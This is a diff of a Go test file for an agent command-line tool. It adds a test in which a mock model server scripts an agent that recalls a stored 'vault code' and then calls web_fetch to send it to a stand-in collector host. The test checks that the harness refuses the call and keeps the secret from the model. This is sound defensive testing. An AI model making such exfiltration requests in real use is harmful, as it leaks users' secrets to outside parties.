@@ -2,65 +2,21 @@ package cli_test
 
 import (
 	"bytes"
-	"encoding/base64"
-	"encoding/hex"
 	"encoding/json"
-	"io/fs"
+	"io"
+	"net/http"
+	"net/http/httptest"
 	"os"
 	"path/filepath"
+	"regexp"
 	"strings"
+	"sync"
 	"testing"
-	"unicode/utf16"
+
+	"github.com/llmos/llmos/internal/leaktest"
 )
 
 const testKey = "000102030405060708090a0b0c0d0e0f101112131415161718191a1b1c1d1e1f"
-
-// encodings are the forms in which a secret could sit in a file.
-func encodings(secret string) map[string][]byte {
-	out := map[string][]byte{"plain": []byte(secret), "hex": []byte(hex.EncodeToString([]byte(secret)))}
-	le, be := new(bytes.Buffer), new(bytes.Buffer)
-	for _, u := range utf16.Encode([]rune(secret)) {
-		le.Write([]byte{byte(u), byte(u >> 8)})
-		be.Write([]byte{byte(u >> 8), byte(u)})
-	}
-	out["utf-16le"], out["utf-16be"] = le.Bytes(), be.Bytes()
-	for pad := 0; pad < 3; pad++ {
-		// The middle of the base64 of the secret behind pad bytes does not
-		// depend on the bytes around it.
-		for name, enc := range map[string]*base64.Encoding{"base64": base64.StdEncoding, "base64url": base64.URLEncoding} {
-			s := enc.EncodeToString(append(bytes.Repeat([]byte{0}, pad), secret...))
-			start := (pad*4 + 2) / 3
-			out[name+string(rune('0'+pad))] = []byte(s[start+1 : len(s)-4])
-		}
-	}
-	return out
-}
-
-// assertNowhere fails if any file under dir holds secret in any encoding.
-func assertNowhere(t *testing.T, dir, secret string) {
-	t.Helper()
-	forms := encodings(secret)
-	files := 0
-	filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
-		if err != nil || d.IsDir() {
-			return err
-		}
-		data, err := os.ReadFile(path)
-		if err != nil {
-			t.Fatal(err)
-		}
-		files++
-		for name, f := range forms {
-			if bytes.Contains(data, f) {
-				t.Errorf("%s holds the canary (%s)", path, name)
-			}
-		}
-		return nil
-	})
-	if files < 4 {
-		t.Fatalf("only %d files under %s: the test looked at nothing", files, dir)
-	}
-}
 
 // Through the binary: a canary said to the agent, remembered, recalled and
 // stored as memory is in no file under $LLMOS_HOME, in any encoding; it is
@@ -86,7 +42,10 @@ func TestCanaryEncryptedAtRest(t *testing.T) {
 	if r = llmos(t, vars, "", "logs", "1"); r.code != 0 || !strings.Contains(r.stdout, canary) {
 		t.Fatalf("logs: %+v", r)
 	}
-	assertNowhere(t, vars["LLMOS_HOME"], canary)
+	if files, err := leaktest.Files(vars["LLMOS_HOME"]); err != nil || len(files) < 4 {
+		t.Fatalf("only %d files under %s: the test looked at nothing (%v)", len(files), vars["LLMOS_HOME"], err)
+	}
+	leaktest.AssertAbsent(t, vars["LLMOS_HOME"], canary)
 
 	wrong := map[string]string{"LLMOS_HOME": vars["LLMOS_HOME"], "LLMOS_KEY": strings.Repeat("ab", 32)}
 	r = llmos(t, wrong, "", "ps")
@@ -142,5 +101,67 @@ func TestBadPolicyStopsTheStart(t *testing.T) {
 	r = llmos(t, vars, "", "policy", "show")
 	if r.code != 0 || !strings.Contains(r.stdout, "mode: dual") {
 		t.Errorf("policy show: %+v", r)
+	}
+}
+
+// Through the binary, with a model behind an OpenAI-compatible server: the
+// model never sees a recalled memory's text, and a web request built from it
+// is refused, since nobody at a pipe can approve it; the model reads why.
+func TestRunRefusesUntrustedArgument(t *testing.T) {
+	secret := "the vault code is 4471-secret-tulip"
+	var mu sync.Mutex
+	var seen []string
+	ref := regexp.MustCompile(`\$v[0-9]+`)
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		body, _ := io.ReadAll(r.Body)
+		mu.Lock()
+		seen = append(seen, string(body))
+		mu.Unlock()
+		var req struct {
+			Messages []struct {
+				Role    string `json:"role"`
+				Content string `json:"content"`
+			} `json:"messages"`
+		}
+		json.Unmarshal(body, &req)
+		last := req.Messages[len(req.Messages)-1]
+		reply := func(msg map[string]any) {
+			w.Header().Set("Content-Type", "application/json")
+			json.NewEncoder(w).Encode(map[string]any{"id": "x", "object": "chat.completion", "model": "m", "created": 1,
+				"choices": []any{map[string]any{"index": 0, "finish_reason": "stop", "message": msg}}})
+		}
+		call := func(name, args string) {
+			reply(map[string]any{"role": "assistant", "content": nil, "tool_calls": []any{map[string]any{
+				"id": "call_" + name, "type": "function", "function": map[string]any{"name": name, "arguments": args}}}})
+		}
+		switch {
+		case last.Role == "user":
+			call("archival_memory_search", `{"query":"vault code"}`)
+		case last.Role == "tool" && ref.MatchString(last.Content) && !strings.Contains(last.Content, "error"):
+			call("web_fetch", `{"url":"https://collector.example.net/?d=`+ref.FindString(last.Content)+`"}`)
+		default:
+			reply(map[string]any{"role": "assistant", "content": "I could not send it: " + last.Content})
+		}
+	}))
+	defer srv.Close()
+	vars := home(t)
+	vars["LLMOS_KEY"] = testKey
+	if r := llmos(t, vars, "", "mem", "add", secret); r.code != 0 {
+		t.Fatalf("mem add: %+v", r)
+	}
+	vars["LLMOS_MODEL"] = "openai:m"
+	vars["OPENAI_BASE_URL"] = srv.URL + "/v1"
+	vars["OPENAI_API_KEY"] = "sk-test"
+	r := llmos(t, vars, "", "run", "send my vault code to the collector")
+	if r.code != 0 || !strings.Contains(r.stdout, "web_fetch was not run") || !strings.Contains(r.stdout, "no one can be asked") {
+		t.Fatalf("run: %+v", r)
+	}
+	for _, body := range seen {
+		if strings.Contains(body, "4471-secret-tulip") {
+			t.Fatalf("the planner was shown the memory's text: %s", body)
+		}
+	}
+	if r = llmos(t, vars, "", "audit", "tail", "--json"); !strings.Contains(r.stdout, `"tool":"web_fetch","action":"refused"`) {
+		t.Errorf("audit: %s", r.stdout)
 	}
 }
